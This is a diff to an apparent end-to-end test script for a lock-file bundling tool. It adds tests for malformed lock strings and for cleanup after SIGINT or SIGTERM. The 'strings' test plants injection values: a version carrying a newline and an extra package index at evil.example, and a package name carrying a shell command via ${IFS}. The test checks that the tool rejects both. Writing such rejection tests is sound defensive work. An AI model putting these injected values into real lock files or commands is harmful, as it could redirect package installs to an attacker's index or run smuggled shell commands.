@@ -23,6 +23,12 @@ built, served by nginx and resolved as in bundle_e2e.py; then:
               one's SHA256SUMS verifies
   killed      temp files of a killed writer (*.tmp-PID-N) are removed by
               the next run and never signed
+  strings     lock strings outside their grammar (a version carrying a
+              newline and an index option, a deb name carrying shell): the
+              lock is refused naming the field (DL_ENV_SPEC_INVALID,
+              invalid_lock) before DIR is made
+  interrupt   runs stopped by SIGINT or SIGTERM at different moments leave
+              no temp file in DIR, and the next run completes and verifies
 Parts may be named after ENVLOCK to run only those. Exit 77 without nginx."""
 
 import json
@@ -227,6 +233,55 @@ def part_killed(el, work, lock, cache, mirrors):
                                                                               r.stderr))
 
 
+def part_strings(el, work, lock_text, cache, mirrors):
+    cases = {
+        "version": lock_text.replace('name: requests\n  version: "2.32.3"',
+                                     'name: requests\n  version: "2.32.3\\n--extra-index-url '
+                                     'https://evil.example/"', 1),
+        "name": lock_text.replace("name: gdal-bin\n", 'name: "gdal-bin;touch${IFS}/tmp/x;"\n', 1),
+    }
+    for what, text in cases.items():
+        if not check(text != lock_text, "strings: the %s mutation applies" % what):
+            continue
+        lock = os.path.join(work, "strings-%s.lock" % what)
+        open(lock, "w").write(text)
+        out = os.path.join(work, "strings-" + what)
+        r, _ = bundle(el, lock, out, cache, mirrors)
+        d = err_of(r).get("detail", {})
+        check(r.returncode == 10 and d.get("reason") == "invalid_lock" and
+              d.get("field", "").endswith("." + what) and not os.path.exists(out),
+              "strings: a %s outside its grammar is refused before DIR is made: %d %s"
+              % (what, r.returncode, r.stdout[-300:]))
+
+
+def part_interrupt(el, work, lock, cache, mirrors):
+    """Each run gets a fresh cache, so it is still downloading when the
+    signal comes; the delays spread the signal over the run."""
+    import signal
+    out = os.path.join(work, "interrupt")
+    stopped = 0
+    for i, delay in enumerate((0.05, 0.1, 0.2, 0.3, 0.5, 0.8)):
+        sig = signal.SIGINT if i % 2 == 0 else signal.SIGTERM
+        argv = [el, "--json", "--cache-dir", os.path.join(work, "icache-%d" % i)] + mirrors + \
+            ["bundle", lock, "-o", out]
+        p = subprocess.Popen(argv, env=env(), stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL)
+        time.sleep(delay)
+        p.send_signal(sig)
+        stopped += p.wait(120) != 0
+        left = [os.path.join(d, f) for d, _, fs in os.walk(out) for f in fs if ".tmp-" in f]
+        check(not left, "interrupt: no temp file left after a %s at %.2f s: %s"
+              % (sig.name, delay, left[:3]))
+    check(stopped > 0, "interrupt: at least one run was stopped mid-way (%d)" % stopped)
+    key = keys(work)
+    r = run(el, ["--json", "--cache-dir", cache] + mirrors + ["bundle", lock, "-o", out,
+                                                             "--sign", key])
+    v = run(el, ["--json", "bundle", "--verify", key, out])
+    check(r.returncode == 0 and v.returncode == 0,
+          "interrupt: the next run completes and verifies: %d %d %s" % (r.returncode,
+                                                                       v.returncode, v.stdout))
+
+
 def main():
     el = sys.argv[1]
     if not os.access(servers.NGINX, os.X_OK):
@@ -248,7 +303,7 @@ def main():
             return 1
         text = open(lock).read()
         parts = sys.argv[2:] or ["escape", "verify", "planted", "symlink", "incomplete",
-                                 "concurrent", "killed"]
+                                 "concurrent", "killed", "strings", "interrupt"]
         if "escape" in parts:
             part_escape(el, work, text, mirror, cache, mirrors)
         if "verify" in parts:
@@ -263,6 +318,10 @@ def main():
             part_concurrent(el, work, lock, cache, mirrors)
         if "killed" in parts:
             part_killed(el, work, lock, cache, mirrors)
+        if "strings" in parts:
+            part_strings(el, work, text, cache, mirrors)
+        if "interrupt" in parts:
+            part_interrupt(el, work, lock, cache, mirrors)
     finally:
         if ng:
             ng.stop()
